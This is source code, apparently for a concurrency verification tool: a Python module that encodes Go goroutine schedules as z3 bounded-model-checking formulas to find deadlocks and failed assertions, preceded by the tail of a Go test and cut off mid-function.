	if !stillThere {
		t.Errorf("DEFECT: cleanup removed the rotation key of the point that is still the registered point for the topic")
	}
}
