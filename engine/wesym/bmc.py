"""Schedules as solver variables (DESIGN section 4).

Each goroutine body named by the harness is executed by the interpreter in *open mode*: every visible operation
(mutex, channel, select, context, shared container / cell / datastore access) is recorded, a visible read returns a
fresh symbolic value and a blocking operation is assumed to proceed. One interpreter path therefore yields one tuple
of straight-line operation sequences (one per goroutine) plus the thread-local path condition over the read values.
For that tuple ONE bounded-model-checking formula is built: `who_k` (which goroutine moves at step k) and `stop`
(where the run ends) are free solver variables; the transition relation applies the recorded operation of the chosen
goroutine if it is enabled in the current shared state and binds its read values to that state. The solver then
decides (a) whether a *stuck* state is reachable -- some goroutine unfinished and none able to move -- and (b)
whether a recorded assertion can fail, (c) whether a sequence cut by the unwinding bound can be run to its end
(unwinding assertion). No scheduler is run and no interleaving is enumerated."""
import time
import z3
from .values import *
from .interp import simp_bool, Unwind
from . import terms as T


class Op:
    __slots__ = ('kind', 'obj', 'args', 'res', 'pos', 'label', 'fn')

    def __init__(self, kind, obj=None, args=(), res=None, pos='', label='', fn=''):
        self.fn = fn
        self.kind = kind
        self.obj = obj
        self.args = args
        self.res = res
        self.pos = pos
        self.label = label

    def __repr__(self):
        return '%s(%s)%s%s' % (self.kind, self.obj if self.obj is not None else '', ('@' + self.pos.rsplit('/', 1)[-1]) if self.pos else '',
                               (' in ' + self.fn) if self.fn else '')


class ThreadRec:
    def __init__(self, name, fn):
        self.name = name
        self.fn = fn
        self.ops = []
        self.truncated = False
        self.panicked = None
        self.blocked = None
        self.pool = []
        self.made = 0
        self.held = {}
        self.cache = {}   # cell -> (value, kind, mutex under which it was read/written)
        self.cached_cells = {}  # cell -> set of mutexes relied upon


class World:
    """per-path registry of shared objects and goroutines"""

    def __init__(self):
        self.threads = []
        self.cur = None
        self.objs = {}  # key -> (kind, name, init)
        self.order = []
        self.results = []
        self.chan_pool = []
        self.shared_ids = None

    def obj(self, kind, key, init=None, name=None):
        k = (kind, key)
        if k not in self.objs:
            nm = '%s%d' % (kind, sum(1 for kk in self.objs if kk[0] == kind))
            self.objs[k] = {'kind': kind, 'name': name or nm, 'init': init}
            self.order.append(k)
        return self.objs[k]['name']


def world(I):
    g = I.path.ghost
    if 'bmc' not in g:
        g['bmc'] = World()
    return g['bmc']


def short_fn(name):
    """'(*berty.tech/weshnet/v2.ConnectednessManager).updateStatus' -> '(*ConnectednessManager).updateStatus'"""
    import re
    return re.sub(r'[A-Za-z0-9_./\-]+/', '', name)


def rec(I, kind, obj=None, args=(), res=None, ins=None, label=''):
    w = world(I)
    if w.cur is None:
        return False
    w.cur.ops.append(Op(kind, obj, args, res, (ins or {}).get('pos', ''), label, short_fn(I.callstack[-1]) if I.callstack else ''))
    return True


class ThreadBlocked(Exception):
    """the goroutine sequence ends at an operation that can never complete in this tuple (kept as its last operation)"""


def wakes_exhausted(I, chan):
    """sound static bound: receives completed through channel `chan` (no close) cannot outnumber the sends on it.
    Sends of goroutines explored later are unknown, so the rule only applies when every other goroutine was explored before."""
    w = world(I)
    cur = w.cur
    idx = w.threads.index(cur)
    if idx != len(w.threads) - 1 and any(not th.ops and th is not cur for th in w.threads[idx + 1:]):
        return False
    sends = 0
    for th in w.threads:
        if th is cur:
            continue
        for o in th.ops:
            if o.obj == chan and o.kind in ('nbsend', 'send'):
                sends += 1
            if o.obj == chan and o.kind == 'close':
                return False
    wakes = sum(1 for o in cur.ops if o.kind == 'wake' and any(a == ('chan', chan) for a in o.args[0]))
    return wakes > sends


def in_thread(I):
    return world(I).cur is not None


def pkey(p):
    return (id(p.c), p.i)


INT = None


def install(I):
    """contracts with dual behaviour: sequential semantics during set-up, recording inside a goroutine body"""
    C, M, N = I.contracts, I.methods, I.intrinsics
    from .contracts import base as cbase
    seq_lock = cbase.CONTRACTS['(*sync.Mutex).Lock']
    seq_unlock = cbase.CONTRACTS['(*sync.Mutex).Unlock']
    seq_rlock = cbase.CONTRACTS['(*sync.RWMutex).RLock']
    seq_runlock = cbase.CONTRACTS['(*sync.RWMutex).RUnlock']

    def mk_lock(kind, seq):
        def f(I, args, ins):
            if not in_thread(I):
                return seq(I, args, ins)
            p = args[0]
            if p is None:
                raise GoPanic('nil-deref', 'lock on nil mutex', (ins or {}).get('pos', ''))
            m = world(I).obj('mutex', pkey(p))
            rec(I, kind, m, ins=ins)
            th = world(I).cur
            if kind in ('lock', 'rlock'):
                th.held[m] = th.held.get(m, 0) + 1
            else:
                th.held.pop(m, None)
                th.cache = {c: e for c, e in th.cache.items() if e[2] != m}
            return None
        return f

    C['(*sync.Mutex).Lock'] = mk_lock('lock', seq_lock)
    C['(*sync.Mutex).Unlock'] = mk_lock('unlock', seq_unlock)
    C['(*sync.RWMutex).Lock'] = mk_lock('lock', seq_lock)
    C['(*sync.RWMutex).Unlock'] = mk_lock('unlock', seq_unlock)
    C['(*sync.RWMutex).RLock'] = mk_lock('rlock', seq_rlock)
    C['(*sync.RWMutex).RUnlock'] = mk_lock('runlock', seq_runlock)
    LK = '(sync.Locker).'

    # ---- container/list as a FIFO of 64-bit values
    def list_new(I, args, ins):
        return Ptr([Native('fifo', items=[])], 0)

    def fifo(I, p):
        l = p.load()
        return l, world(I).obj('fifo', id(l), init=list(l.items))

    def list_pushback(I, args, ins):
        p, v = args
        val = v.v if isinstance(v, Iface) else v
        l, name = fifo(I, p)
        if not in_thread(I):
            l.items.append(val)
            world(I).objs[('fifo', id(l))]['init'] = list(l.items)
            return None
        rec(I, 'push', name, (val,), ins=ins)
        return None

    def list_len(I, args, ins):
        l, name = fifo(I, args[0])
        if not in_thread(I):
            return len(l.items)
        r = I.fresh_bv('len', 64)
        I.add(z3.ULT(r, 200))
        rec(I, 'len', name, res=r, ins=ins)
        return r

    def list_front(I, args, ins):
        l, name = fifo(I, args[0])
        if not in_thread(I):
            if not l.items:
                return None
            return Ptr([Native('fifoelem', value=l.items[0], tid=None)], 0)
        r = I.fresh_bv('front', 64)
        rec(I, 'front', name, res=r, ins=ins)
        return Ptr([Native('fifoelem', value=r)], 0)

    def list_remove(I, args, ins):
        l, name = fifo(I, args[0])
        e = args[1]
        if not in_thread(I):
            v = l.items.pop(0)
            return Iface(I.prog.type_by_str('int').id, v)
        rec(I, 'pop', name, ins=ins)
        return Iface(I.prog.type_by_str('int').id, e.load().value)

    C['container/list.New'] = list_new
    C['(*container/list.List).PushBack'] = list_pushback
    C['(*container/list.List).Len'] = list_len
    C['(*container/list.List).Front'] = list_front
    C['(*container/list.List).Remove'] = list_remove

    # element.Value is a field of a contract object: FieldAddr on it is answered here
    def elem_value_hook(I, p, idx):
        e = p.load()
        if isinstance(e, Native) and e.kind == 'fifoelem':
            return Ptr([Iface(I.prog.type_by_str('int').id, e.value)], 0)
        return None

    I.native_field_hook = elem_value_hook

    # ---- shared memory cells (scalars and channel pointers) are visible reads / writes inside goroutines
    def cell_kind(v):
        if isinstance(v, bool) or z3.is_bool(v) if is_sym(v) else isinstance(v, bool):
            return 'bool'
        if isinstance(v, int) or (is_sym(v) and z3.is_bv(v)):
            return 'int'
        if v is None or isinstance(v, Chan):
            return 'chanptr'
        return None

    def shared_cell(I, p, write=False):
        w = world(I)
        if w.cur is None or not getattr(w, 'shared_ids', None) or id(p.c) not in w.shared_ids:
            return None
        if id(p.c) in getattr(w, 'frozen_ids', ()):
            if write:
                raise Inconclusive('a goroutine writes an object the harness declared immutable (verif_freeze)')
            return None
        return w

    def load_hook(I, p, ins):
        w = shared_cell(I, p)
        if w is None:
            return False, None
        cur = p.c[p.i]
        t = I.prog.types.get(ins.get('t')) if ins else None
        kind = None
        if t is not None:
            u = t.under()
            if t.isint():
                kind = 'int'
            elif t.isbool():
                kind = 'bool'
            elif u.kind == 'chan':
                kind = 'chanptr'
        if kind is None:
            return False, None
        if kind == 'chanptr' and isinstance(cur, Chan) and cur not in w.chan_pool:
            # a channel made before the goroutines start (e.g. by a constructor): the cell is read as immutable; a
            # goroutine that writes it makes the job inconclusive (store_hook)
            if not hasattr(w, 'init_chan_cells'):
                w.init_chan_cells = set()
            w.init_chan_cells.add(pkey(p))
            return False, None
        name = w.obj('cell', pkey(p), init=cell_init(I, w, cur, kind))
        w.objs[('cell', pkey(p))]['ckind'] = kind
        th = w.cur
        ce = th.cache.get(name)
        if ce is not None and ce[2] in th.held:
            # second access to the same cell inside one critical section: same value, PROVIDED the cell is only ever
            # accessed under that mutex -- verified on the whole tuple before solving (else inconclusive)
            th.cached_cells.setdefault(name, set()).add(ce[2])
            return True, ce[0]
        if kind == 'int':
            bits, signed = t.intinfo()
            w.objs[('cell', pkey(p))]['bits'] = bits
            r = I.fresh_bv('rd', bits)
            rec(I, 'read', name, res=r, ins=ins)
            if th.held:
                th.cache[name] = (r, kind, list(th.held)[-1])
            return True, r
        if kind == 'bool':
            r = I.fresh_bool('rd')
            rec(I, 'read', name, res=r, ins=ins)
            if th.held:
                th.cache[name] = (r, kind, list(th.held)[-1])
            return True, r
        r = I.fresh_int('rdchan')
        rec(I, 'read', name, res=r, ins=ins)
        # candidates: nil, channels already made by goroutines explored before (or by this one so far), and every pool
        # channel of goroutines not explored yet (sound: a cell can only hold a channel some goroutine made)
        ids = [0]
        idx = w.threads.index(w.cur)
        for ti, th in enumerate(w.threads):
            for k, chn in enumerate(th.pool):
                if ti <= idx and k >= th.made:
                    continue
                ids.append(w.chan_pool.index(chn) + 1)
        cur0 = p.c[p.i]
        if isinstance(cur0, Chan) and cur0 not in w.chan_pool:
            raise Inconclusive('shared channel cell initialised before the goroutines start')
        I.add(z3.Or(*[r == j for j in ids]))
        i = I.decide([r == j for j in ids], 'chan-cell')
        val = (None if ids[i] == 0 else w.chan_pool[ids[i] - 1])
        if th.held:
            th.cache[name] = (val, kind, list(th.held)[-1])
        return True, val

    def cell_init(I, w, cur, kind):
        if kind == 'int':
            return cur
        if kind == 'bool':
            return cur
        if cur is None:
            return 0
        return w.chan_pool.index(cur) + 1 if cur in w.chan_pool else 0

    def store_hook(I, p, v, ins):
        w = shared_cell(I, p, write=True)
        if w is None:
            return False
        cur = p.c[p.i]
        key = ('cell', pkey(p))
        if pkey(p) in getattr(w, 'init_chan_cells', ()) or (isinstance(cur, Chan) and cur not in w.chan_pool):
            raise Inconclusive('a goroutine overwrites a channel cell that was initialised before the goroutines started')
        kind = w.objs[key].get('ckind') if key in w.objs else None
        if kind is None:
            if isinstance(v, bool) or (is_sym(v) and z3.is_bool(v)):
                kind = 'bool'
            elif isinstance(v, int) or (is_sym(v) and z3.is_bv(v)):
                kind = 'int'
            elif isinstance(v, Chan) or (v is None and (cur is None or isinstance(cur, Chan))):
                kind = 'chanptr'
            else:
                if isinstance(v, (SV, AV, Ptr, MapVal, Iface, Closure)) or v is None:
                    w.nonscalar_shared_writes = getattr(w, 'nonscalar_shared_writes', 0) + 1
                return False
        name = w.obj('cell', pkey(p), init=cell_init(I, w, cur, kind))
        w.objs[key]['ckind'] = kind
        if kind == 'chanptr':
            val = z3.IntVal(0 if v is None else w.chan_pool.index(v) + 1)
        elif kind == 'bool':
            val = z3.BoolVal(v) if isinstance(v, bool) else v
        else:
            bits = cur.size() if (is_sym(cur) and z3.is_bv(cur)) else (v.size() if (is_sym(v) and z3.is_bv(v)) else 64)
            val = z3.BitVecVal(v, bits) if isinstance(v, int) else v
        rec(I, 'write', name, (val,), ins=ins)
        th = w.cur
        if th.held:
            th.cache[name] = (v, kind, list(th.held)[-1])
        else:
            th.cache.pop(name, None)
        return True

    I.shared_load_hook = load_hook
    I.shared_store_hook = store_hook

    # ---- channels / select
    def chan_make(I, args, ins):
        n = args[0]
        w = world(I)
        if w.cur is not None:
            # channels made inside a goroutine come from its pre-allocated pool so that every goroutine can name them
            th = w.cur
            if th.made >= len(th.pool):
                raise Unwind('goroutine %s makes more than %d channels' % (th.name, len(th.pool)))
            ch = th.pool[th.made]
            th.made += 1
            ch.cap = n if isinstance(n, int) else 0
            w.obj('chan', id(ch), init=ch.cap)
            w.objs[('chan', id(ch))]['init'] = ch.cap
            return ch
        return Chan(n if isinstance(n, int) else 0, name=(ins or {}).get('pos', ''))

    def chname(I, ch):
        return world(I).obj('chan', id(ch), init=ch.cap)

    def chan_select(I, args, ins):
        states, blocking = args
        t = I.prog.types[ins['t']].under()
        zeros = [I.zero(I.prog.types[f['t']]) for f in t.fields[2:]]
        if not in_thread(I):
            raise Inconclusive('select during sequential set-up')
        if not blocking:
            if len(states) != 1 or states[0][0] != 1:
                raise Inconclusive('non-blocking select other than a single send')
            ch = states[0][1]
            ok = I.fresh_bool('nbsend-ok')
            rec(I, 'nbsend', chname(I, ch), res=ok, ins=ins)
            if I.fork_bool(ok, 'nbsend'):
                return tuple([0, False] + zeros)
            return tuple([-1, False] + zeros)
        # blocking select over receive cases (a channel or ctx.Done())
        alts = []
        for (d, ch, sv) in states:
            if d != 2:
                raise Inconclusive('blocking select with a send case')
            if isinstance(ch, Native) and ch.kind == 'donechan':
                if getattr(ch, 'ctx', None) is None:
                    # a context that is never cancelled / one that was cancelled before the goroutines started
                    alts.append(('always', None) if getattr(ch, 'closed', False) else ('nil', None))
                else:
                    alts.append(('ctx', world(I).obj('ctx', id(ch.ctx))))
            elif isinstance(ch, Chan):
                alts.append(('chan', chname(I, ch)))
            elif ch is None:
                alts.append(('nil', None))
            else:
                raise Inconclusive('select on %r' % (ch,))
        rec(I, 'park', None, (tuple(alts),), ins=ins)
        which = I.fresh_bv('select-which', 8)
        I.add(z3.ULT(which, len(alts)))
        for j, (ak, an) in enumerate(alts):
            if ak == 'nil':
                I.add(which != j)  # a nil channel / never-cancelled context is never ready
        rec(I, 'wake', None, (tuple(alts),), res=which, ins=ins)
        i = I.decide([which == j for j in range(len(alts))], 'select')
        if alts[i][0] == 'chan' and wakes_exhausted(I, alts[i][1]):
            raise ThreadBlocked('no value can ever arrive on %s for this receive' % alts[i][1])
        if alts[i][0] == 'ctx' and not any(o.kind == 'cancel' for th in world(I).threads for o in th.ops) and \
                not any(th.name == 'canceller' for th in world(I).threads):
            raise ThreadBlocked('the context is never cancelled')
        return tuple([i, True] + zeros)

    C['chan.make'] = chan_make
    C['chan.select'] = chan_select

    def chan_send(I, args, ins):
        ch, v = args
        if not in_thread(I):
            raise Inconclusive('send during set-up')
        rec(I, 'send', chname(I, ch), (v,), ins=ins)
        return None

    def chan_recv(I, args, ins):
        ch, commaok = args
        if not in_thread(I):
            raise Inconclusive('receive during set-up')
        if isinstance(ch, Native) and ch.kind == 'donechan':
            rec(I, 'park', None, ((('ctx', world(I).obj('ctx', id(ch.ctx))),),), ins=ins)
            w = I.fresh_bv('select-which', 8)
            I.add(w == 0)
            rec(I, 'wake', None, ((('ctx', world(I).obj('ctx', id(ch.ctx))),),), res=w, ins=ins)
            z = I.zero(I.prog.types[ins['t']])
            return z
        rec(I, 'park', None, ((('chan', chname(I, ch)),),), ins=ins)
        w = I.fresh_bv('select-which', 8)
        I.add(w == 0)
        rec(I, 'wake', None, ((('chan', chname(I, ch)),),), res=w, ins=ins)
        z = I.zero(I.prog.types[ins['t']])
        return z

    C['chan.send'] = chan_send
    C['chan.recv'] = chan_recv

    def builtin_close(I, args, ins):
        ch = args[0]
        if not in_thread(I):
            ch.closed = True
            return None
        rec(I, 'close', chname(I, ch), ins=ins)
        return None

    C['builtin.close'] = builtin_close

    # ---- context shared between goroutines
    CANCELED = Iface(-1, Native('sentinel', name='context.Canceled'))
    I.globals_init['context.Canceled'] = lambda I, n: CANCELED

    def v_shared_ctx(I, args, ins):
        c = Native('sctx', as_iface=True)
        world(I).obj('ctx', id(c))
        return Iface(-21, c)

    def sctx_err(I, args, ins):
        c = args[0]
        if not in_thread(I):
            return None
        r = I.fresh_bool('ctx-cancelled')
        rec(I, 'ctxerr', world(I).obj('ctx', id(c)), res=r, ins=ins)
        if I.fork_bool(r, 'ctx.Err'):
            return CANCELED
        return None

    def sctx_done(I, args, ins):
        return Native('donechan', ctx=args[0], closed=False)

    def v_cancel(I, args, ins):
        c = args[0].v
        rec(I, 'cancel', world(I).obj('ctx', id(c)), ins=ins)
        return None

    N['verif_sharedCtx'] = v_shared_ctx
    N['verif_cancel'] = v_cancel
    M[('sctx', 'Err')] = sctx_err
    M[('sctx', 'Done')] = sctx_done
    M[('sctx', 'Value')] = lambda I, a, ins: None

    # ---- harness: goroutines, observations, assertions inside goroutines
    def v_go(I, args, ins):
        w = world(I)
        name = cbase.gostr(args[0])
        th = ThreadRec(name, args[1])
        npool = I.cfg.get('chan_pool_by_name', {}).get(name, I.cfg.get('chan_pool', 2))
        th.pool = [Chan(0, name='%s#%d' % (name, k)) for k in range(npool)]
        w.chan_pool.extend(th.pool)
        w.threads.append(th)
        return None

    def v_assert_thread(I, args, ins):
        cond, msg = args
        if in_thread(I):
            rec(I, 'assert', None, (cond,), ins=ins, label=cbase.gostr(msg))
            return None
        return cbase.INTRINSICS['verif_assert'](I, args, ins)

    def v_run_threads(I, args, ins):
        run_threads(I, ins)
        return None

    def v_observe(I, args, ins):
        rec(I, 'observe', None, (args[1],), ins=ins, label=cbase.gostr(args[0]))
        return None

    def v_freeze(I, args, ins):
        w = world(I)
        w.frozen_ids = getattr(w, 'frozen_ids', set()) | reachable_containers([args[0]])
        return None

    N['verif_freeze'] = v_freeze
    N['verif_observe'] = v_observe
    N['verif_observeBytes'] = lambda I, a, ins: (rec(I, 'observe', None, (I.bytes_term(a[1]),), ins=ins, label=cbase.gostr(a[0])), None)[1]
    N['verif_go'] = v_go
    N['verif_assert'] = v_assert_thread
    N['verif_runThreads'] = v_run_threads


# ---------------------------------------------------------------------------------------------- composition
def reachable_containers(roots):
    seen = set()
    out = set()
    stack = list(roots)
    while stack:
        v = stack.pop()
        if isinstance(v, (int, str, bool, float)) or v is None or is_sym(v):
            continue
        if id(v) in seen:
            continue
        seen.add(id(v))
        if isinstance(v, Ptr):
            # the container is marked (cells are identified by container and index), but only the pointed-to element is
            # followed: a pointer to one field does not reach its sibling fields
            out.add(id(v.c))
            try:
                stack.append(v.c[v.i])
            except Exception:
                stack.append(v.c)
        elif isinstance(v, (list, tuple)):
            if isinstance(v, list):
                out.add(id(v))
            stack.extend(v)
        elif isinstance(v, SliceVal):
            if v.arr is not None:
                out.add(id(v.arr))
                stack.append(v.arr)
        elif isinstance(v, Iface):
            stack.append(v.v)
        elif isinstance(v, Closure):
            stack.extend(v.bindings)
        elif isinstance(v, MapVal):
            for kv in v.items:
                stack.extend(kv)
        elif isinstance(v, Native):
            out.add(id(v))
            stack.extend(v.__dict__.values())
    return out


def run_threads(I, ins):
    w = world(I)
    w.shared_ids = reachable_containers([th.fn for th in w.threads])
    for th in w.threads:
        w.cur = th
        try:
            I.call_value(th.fn, [], ins)
        except Unwind:
            th.truncated = True
        except ThreadBlocked as tb:
            th.blocked = str(tb)
        except GoPanic as gp:
            # a panic inside a goroutine body: recorded as an always-failing assertion at this point
            th.ops.append(Op('assert', None, (False,), pos=gp.pos, label='Go panic in goroutine %s: %s %s' % (th.name, gp.kind, gp.value)))
            th.panicked = gp
        finally:
            w.cur = None
    solve_tuple(I, w)


def merge_protected(threads):
    """Sound reduction: if every access to an object X in every goroutine sequence happens while the goroutine holds the
    same mutex M, then X's operations are invisible to the others until M is released; each such operation is fused with
    the step before it (which is the lock or another fused operation) into one atomic step."""
    held_by = {}   # obj -> set of mutexes held at each access (intersection)
    for th in threads:
        held = []
        for o in th.ops:
            if o.kind == 'lock':
                held.append(o.obj)
            elif o.kind == 'unlock':
                if o.obj in held:
                    held.remove(o.obj)
            elif o.kind in ('push', 'len', 'front', 'pop'):
                cur = set(held)
                held_by[o.obj] = cur if o.obj not in held_by else (held_by[o.obj] & cur)
    protected = {x for x, ms in held_by.items() if ms}
    out = []
    for th in threads:
        steps = []
        for o in th.ops:
            if o.kind in ('push', 'len', 'front', 'pop') and o.obj in protected and steps:
                steps[-1].append(o)
            else:
                steps.append([o])
        out.append(steps)
    return out


def step_semantics(ops, st, tid):
    """sequential composition of the operations of one atomic step"""
    cur = dict(st)
    en_all, bind_all, upd_all = [], [], {}
    for o in ops:
        en, upd, bind = op_semantics(o, cur, tid)
        en_all.append(en)
        bind_all.extend(bind)
        for n, v in upd.items():
            cur[n] = v
            upd_all[n] = v
    return z3.And(*en_all), upd_all, bind_all


def check_cached_cells(threads):
    held_at = {}
    for th in threads:
        held = []
        for o in th.ops:
            if o.kind in ('lock', 'rlock'):
                held.append(o.obj)
            elif o.kind in ('unlock', 'runlock'):
                if o.obj in held:
                    held.remove(o.obj)
            elif o.kind in ('read', 'write'):
                cur = set(held)
                held_at[o.obj] = cur if o.obj not in held_at else (held_at[o.obj] & cur)
    for th in threads:
        for cell, ms in th.cached_cells.items():
            for m in ms:
                if m not in held_at.get(cell, set()):
                    raise Inconclusive('read of %s was coalesced under %s but the cell is also accessed without that mutex' % (cell, m))


def solve_tuple(I, w):
    check_cached_cells(w.threads)
    threads = w.threads
    T_ = len(threads)
    steps_of = merge_protected(threads)
    K = sum(len(x) for x in steps_of)
    st0 = {}
    for key in w.order:
        o = w.objs[key]
        nm, kind = o['name'], o['kind']
        if kind == 'mutex':
            st0[nm + '.w'] = z3.IntVal(0)
            st0[nm + '.r'] = z3.IntVal(0)
        elif kind == 'fifo':
            init = o['init'] or []
            arr = z3.K(z3.IntSort(), z3.BitVecVal(0, 64))
            for i, v in enumerate(init):
                arr = z3.Store(arr, z3.IntVal(i), v if not isinstance(v, int) else z3.BitVecVal(v, 64))
            st0[nm + '.head'] = z3.IntVal(0)
            st0[nm + '.tail'] = z3.IntVal(len(init))
            st0[nm + '.arr'] = arr
        elif kind == 'chan':
            st0[nm + '.buf'] = z3.IntVal(0)
            st0[nm + '.parked'] = z3.BoolVal(False)
            st0[nm + '.token'] = z3.BoolVal(False)
            st0[nm + '.closed'] = z3.BoolVal(False)
            st0[nm + '.cap'] = z3.IntVal(o['init'] or 0)
        elif kind == 'ctx':
            st0[nm + '.cancelled'] = z3.BoolVal(False)
        elif kind == 'ds':
            st0[nm + '.pres'], st0[nm + '.val'] = o['init']
        elif kind == 'cell':
            iv = o['init']
            ck = o.get('ckind')
            if ck == 'bool':
                iv = z3.BoolVal(iv) if isinstance(iv, bool) else iv
            elif ck == 'chanptr':
                iv = z3.IntVal(iv if isinstance(iv, int) else 0)
            elif isinstance(iv, int):
                iv = z3.BitVecVal(iv, o.get('bits', 64))
            st0[nm] = iv
    pcs0 = [z3.IntVal(0) for _ in threads]
    who = [z3.Int(I.fresh_name('who')) for _ in range(K)]
    stop = z3.Int(I.fresh_name('stop'))
    cons = [stop >= 0, stop <= K]
    state = dict(st0)
    pcs = list(pcs0)
    states = [(dict(state), list(pcs))]
    assert_fail = []  # (label, formula)
    trunc_reached = []
    valid_upto = []  # valid_upto[k]: step k (0-based) is a proper transition
    for k in range(K):
        wk = who[k]
        cons.append(z3.Implies(k < stop, z3.And(wk >= 0, wk < T_)))
        step_ok = []
        new_state = dict(state)
        new_pcs = list(pcs)
        for ti, th in enumerate(threads):
            for j, ops in enumerate(steps_of[ti]):
                sel = z3.And(wk == ti, pcs[ti] == j)
                en, upd, bind = step_semantics(ops, state, ti)
                step_ok.append(z3.And(sel, en, *bind))
                for name, val in upd.items():
                    new_state[name] = z3.If(sel, val, new_state[name])
                cur_st = dict(state)
                for op in ops:
                    if op.kind == 'sassert':
                        c = op.args[0](cur_st)
                        assert_fail.append((op.label, op.pos, z3.And(k < stop, sel, z3.Not(c))))
                    if op.kind == 'assert':
                        c = op.args[0]
                        negc = (not c) if isinstance(c, bool) else z3.Not(c)
                        assert_fail.append((op.label, op.pos, z3.And(k < stop, sel, negc)))
            new_pcs[ti] = z3.If(wk == ti, pcs[ti] + 1, pcs[ti])
        ok = z3.Or(*step_ok) if step_ok else z3.BoolVal(False)
        cons.append(z3.Implies(k < stop, ok))
        # freeze after stop
        for name in new_state:
            new_state[name] = z3.If(k < stop, new_state[name], state[name])
        for ti in range(T_):
            new_pcs[ti] = z3.If(k < stop, new_pcs[ti], pcs[ti])
        state, pcs = new_state, new_pcs
        states.append((dict(state), list(pcs)))
    # final state predicates
    fin = [pcs[ti] == len(steps_of[ti]) for ti, th in enumerate(threads)]
    can_move = []
    for ti, th in enumerate(threads):
        alts = []
        for j, ops in enumerate(steps_of[ti]):
            en, _, _ = step_semantics(ops, state, ti)
            alts.append(z3.And(pcs[ti] == j, en))
        if th.truncated:
            alts.append(pcs[ti] == len(steps_of[ti]))  # would go on beyond the unwinding bound
        can_move.append(z3.Or(*alts) if alts else z3.BoolVal(False))
    unfinished = [z3.Not(f) if not th.truncated else z3.BoolVal(False) for f, th in zip(fin, threads)]
    stuck = z3.And(z3.Or(*unfinished), *[z3.Not(c) for c in can_move])
    trunc = [z3.And(pcs[ti] == len(steps_of[ti])) for ti, th in enumerate(threads) if th.truncated]

    base = z3.And(*cons)
    p = I.path
    desc = ' | '.join('%s:%d ops%s' % (th.name, len(th.ops), ' (cut)' if th.truncated else '') for th in threads)

    def query(extra, label, pos=''):
        r = I.check(base, extra)
        ob = {'msg': label, 'pos': pos, 'status': None, 'path': list(p.trace), 'decisions': len(p.trace)}
        p.obligations.append(ob)
        if r == z3.unsat:
            ob['status'] = 'discharged'
            if I.cfg.get('keep_smt2') and len(p.obligations) % 7 == 0:
                ob['smt2'] = smt2_of(I, [base, extra])
            return None
        if r == z3.unknown:
            ob['status'] = 'unknown'
            return None
        m = p.solver.model()
        ob['status'] = 'violated'
        sched = schedule_of(m, who, stop, threads, K, steps_of)
        if I.cfg.get('bmc_debug'):
            for k,(stt,pp) in enumerate(states):
                print('STEP',k,{n:str(m.eval(v,model_completion=True)) for n,v in stt.items() if 'arr' not in n},[str(m.eval(x,model_completion=True)) for x in pp])
        ob['model'] = dict(I.render_model(m), schedule=sched, threads=desc)
        ob['zmodel'] = m
        p.violations.append(ob)
        return m

    finals = []
    fh = getattr(I, 'bmc_final_check', None)
    if fh is not None:
        allfin = z3.And(*fin)
        for (label, cond) in fh(I, w, state):
            finals.append((label, z3.And(allfin, z3.Not(cond) if not isinstance(cond, bool) else z3.BoolVal(not cond))))
    stuck_label = 'C-sched: no reachable stuck state (every goroutine can run to completion: no lost wake-up, no deadlock) [%s]' % desc
    groups = {}
    for (label, pos, f) in assert_fail:
        groups.setdefault((label, pos), []).append(f)
    trunc_f = z3.Or(*trunc) if trunc else z3.BoolVal(False)
    for (label, f) in finals:
        groups[(label, 'final state')] = [f]
    bad = z3.Or(stuck, trunc_f, *[z3.Or(*fs) for fs in groups.values()])
    import os
    tac = os.environ.get('BMC_TACTIC', 'simplify,propagate-values,solve-eqs,elim-uncnstr,smt')
    if tac:
        t0 = time.time()
        s2 = z3.Then(*tac.split(',')).solver() if ',' in tac else z3.Tactic(tac).solver()
        s2.set('timeout', 120000)
        for c in I.path.pc:
            s2.add(c)
        s2.add(base, bad)
        r = s2.check()
        I.stats.solver_s += time.time() - t0
        I.stats.queries += 1
        if r == z3.sat:
            r = I.check(base, bad)
    else:
        r = I.check(base, bad)
    if r == z3.unsat:
        # one query discharges every obligation of this tuple
        for lab, pos in [(stuck_label, '')] + list(groups.keys()):
            ob = {'msg': lab, 'pos': pos, 'status': 'discharged', 'path': list(p.trace), 'decisions': len(p.trace)}
            if I.cfg.get('keep_smt2') and lab is stuck_label and (I.path.fresh % 5 == 0):
                ob['smt2'] = smt2_of(I, [base, bad])
            p.obligations.append(ob)
    else:
        query(stuck, stuck_label)
        for (label, pos), fs in groups.items():
            query(z3.Or(*fs), label, pos)
        if trunc:
            r2 = I.check(base, trunc_f)
            if r2 != z3.unsat:
                raise Unwind('a goroutine sequence cut by the unwinding bound is executable to its end [%s]' % desc)
    w.results.append(desc)
    I.path.ghost.setdefault('reached', []).append('bmc-tuple')
    I.path.ghost['bmc_K'] = max(I.path.ghost.get('bmc_K', 0), K)


def smt2_of(I, extra):
    s = z3.Solver()
    for c in I.path.pc:
        s.add(c)
    for e in extra:
        s.add(e)
    return s.to_smt2()


def schedule_of(m, who, stop, threads, K, steps_of=None):
    if steps_of is not None:
        class _T:
            pass
        ths = []
        for th, st in zip(threads, steps_of):
            x = _T()
            x.name = th.name
            x.ops = ['+'.join(repr(o) for o in grp) for grp in st]
            ths.append(x)
        return schedule_of(m, who, stop, ths, K)
    try:
        n = m.eval(stop, model_completion=True).as_long()
    except Exception:
        n = K
    pcs = [0] * len(threads)
    out = []
    for k in range(min(n, K)):
        t = m.eval(who[k], model_completion=True).as_long()
        if 0 <= t < len(threads) and pcs[t] < len(threads[t].ops):
            out.append('%s:%s' % (threads[t].name, threads[t].ops[pcs[t]]))
            pcs[t] += 1
    rest = ['%s stays at %s' % (th.name, th.ops[pcs[i]]) for i, th in enumerate(threads) if pcs[i] < len(th.ops)]
    return out + ['--'] + rest


def op_semantics(op, st, tid):
    """(enabled, {state var: new value}, [binding constraints]) of a recorded operation in shared state st"""
    k = op.kind
    T_ = z3.BoolVal(True)
    if k == 'lock':
        w, r = st[op.obj + '.w'], st[op.obj + '.r']
        return z3.And(w == 0, r == 0), {op.obj + '.w': z3.IntVal(tid + 1)}, []
    if k == 'unlock':
        return T_, {op.obj + '.w': z3.IntVal(0)}, []
    if k == 'rlock':
        w, r = st[op.obj + '.w'], st[op.obj + '.r']
        return w == 0, {op.obj + '.r': r + 1}, []
    if k == 'runlock':
        return T_, {op.obj + '.r': st[op.obj + '.r'] - 1}, []
    if k == 'push':
        v = op.args[0]
        v = z3.BitVecVal(v, 64) if isinstance(v, int) else v
        tail = st[op.obj + '.tail']
        return T_, {op.obj + '.arr': z3.Store(st[op.obj + '.arr'], tail, v), op.obj + '.tail': tail + 1}, []
    if k == 'len':
